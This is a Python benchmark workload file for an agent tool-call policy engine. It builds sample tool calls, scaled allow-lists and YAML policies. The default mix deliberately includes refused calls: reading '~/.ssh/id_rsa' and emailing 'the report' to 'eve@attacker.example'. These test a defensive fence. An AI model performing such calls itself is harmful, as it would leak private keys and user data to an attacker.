"""The calls every row decides: the default policy's realistic mix, and the scaled allow-lists."""
from __future__ import annotations

import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

HOME = "/home/user"
CWD = "/home/user/project"

# One user request; every row binds it before timing (the fence as its intent, the others as sets).
INTENT_MESSAGE = "Fix the bug in src/app.py, write notes to notes.md and email bob@example.com the summary"

V4A_PATCH = (
    "*** Begin Patch\n*** Update File: src/app.py\n@@ def main():\n-    return 1\n+    return 0\n"
    "*** End Patch\n"
)


@dataclass(frozen=True)
class Call:
    label: str
    tool: str
    args: dict[str, Any]


# A realistic mix for a coding-and-mail task: reads, compound commands, writes, a V4A patch,
# MCP sends; both allowed and refused calls.
DEFAULT_MIX: tuple[Call, ...] = (
    Call("read_file", "read_file", {"path": "src/app.py"}),
    Call("read_file credential", "read_file", {"path": "~/.ssh/id_rsa"}),
    Call("terminal read-only compound", "terminal", {"command": "ls -la src | grep app && cat src/app.py | wc -l"}),
    Call("terminal exec", "terminal", {"command": "git status && pytest -q tests"}),
    Call("write_file named", "write_file", {"path": "notes.md", "content": "# Notes\nfixed the return code\n"}),
    Call("write_file unnamed", "write_file", {"path": "/tmp/out.txt", "content": "x"}),
    Call("patch V4A", "patch", {"mode": "patch", "patch": V4A_PATCH}),
    Call("MCP send named", "mcp__gmail__send_email", {"to": "bob@example.com", "subject": "Summary", "body": "Fixed."}),
    Call("MCP send unnamed", "mcp__gmail__send_email", {"to": "eve@attacker.example", "body": "the report"}),
)

SCALES = (10, 1_000, 100_000)


def recipients(n: int) -> list[str]:
    return [f"user{i}@corp{i % 97}.example" for i in range(n)]


def domains(n: int) -> list[str]:
    return [f"site{i}.example" for i in range(n)]


def directories(n: int) -> list[str]:
    return [f"/srv/data/team{i}" for i in range(n)]


def scaled_calls(n: int) -> tuple[Call, ...]:
    """Calls that hit a member near the end of each list, and one that misses every list."""
    last = n - 1
    return (
        Call("send listed", "send_message", {"target": recipients(n)[last], "message": "hi"}),
        Call("send unlisted", "send_message", {"target": "stranger@elsewhere.example", "message": "hi"}),
        Call("fetch listed", "web_extract", {"urls": [f"https://docs.{domains(n)[last]}/page"]}),
        Call("write listed", "write_file", {"path": f"{directories(n)[last]}/out/report.txt", "content": "x"}),
        Call("write unlisted", "write_file", {"path": "/srv/other/report.txt", "content": "x"}),
    )


def scaled_policy_yaml(n: int) -> str:
    """The fence's form of the scaled allow-lists (the peers build theirs from the same lists)."""
    def block(items: list[str]) -> str:
        return "[" + ", ".join(f'"{item}"' for item in items) + "]"

    return f"""version: 1
name: bench-scaled-{n}
defaults: {{"*": ask}}
tools:
  - name: send_message
    capability: message.send
    risk: send
    args: {{target: recipient}}
  - name: web_extract
    capability: net.fetch
    risk: egress
    args: {{urls: url}}
  - name: write_file
    capability: file.write
    risk: write
    args: {{path: path}}
rules:
  - id: send-listed
    effect: allow
    capability: [message.send]
    when:
      recipient: {{in: {block(recipients(n))}}}
  - id: fetch-listed
    effect: allow
    capability: [net.fetch]
    when:
      url: {{domain: {block(domains(n))}}}
  - id: write-listed
    effect: allow
    capability: [file.write]
    when:
      path: {{under: {block(directories(n))}}}
"""


def rule_recipient(i: int) -> str:
    return f"user{i}@corp{i % 97}.example"


def scaled_rules_policy_yaml(n: int) -> str:
    """`n` MCP servers, each with a send tool of its own capability and one rule that allows it
    to write to one address: `n` tool entries and `n` rules, not one long list."""
    tools = "\n".join(f"  - {{mcp: {{server: svc{i}, tool: send}}, capability: svc{i}.send, risk: send, args: {{to: email}}}}"
                      for i in range(n))
    rules = "\n".join(f'  - {{id: svc{i}-send, effect: allow, capability: [svc{i}.send], when: {{email: {{in: ["{rule_recipient(i)}"]}}}}}}'
                      for i in range(n))
    return f"version: 1\nname: bench-rules-{n}\ndefaults: {{\"*\": ask}}\ntools:\n{tools}\nrules:\n{rules}\n"


def scaled_rule_calls(n: int) -> tuple[Call, ...]:
    """The last rule's tool and address, a middle tool with another address, a tool no rule names."""
    last, middle = n - 1, n // 2
    return (
        Call("last rule, its address", f"mcp__svc{last}__send", {"to": rule_recipient(last), "body": "hi"}),
        Call("middle rule, another address", f"mcp__svc{middle}__send", {"to": rule_recipient(last), "body": "hi"}),
        Call("no rule's tool", "mcp__other__send", {"to": rule_recipient(last), "body": "hi"}),
    )


def intent_text(size: int) -> str:
    """A user message of about `size` bytes, with addresses, paths and URLs the binder reads."""
    sentence = ("Please review src/module{i}.py and send the summary to dev{i}@example.com, "
                "then check https://docs{i}.example.org/guide before you run the tests. ")
    parts: list[str] = []
    total = 0
    i = 0
    while total < size:
        part = sentence.format(i=i)
        parts.append(part)
        total += len(part)
        i += 1
    return "".join(parts)[:size]


def compiled(policy_yaml: str) -> bytes:
    """A workload's policy as bytecode, compiled by the bundle under Node (the benchmark runs in
    the checkout, and its largest policy compiles about five times faster there than in QuickJS)."""
    import subprocess

    from agentsfence import data

    with tempfile.TemporaryDirectory() as scratch:
        source, target = Path(scratch) / "policy.yaml", Path(scratch) / "policy.afb"
        source.write_text(policy_yaml)
        subprocess.run(["node", str(data.path("compile.cjs")), str(source), "-o", str(target)], check=True,
                       stdout=subprocess.DEVNULL)
        return target.read_bytes()
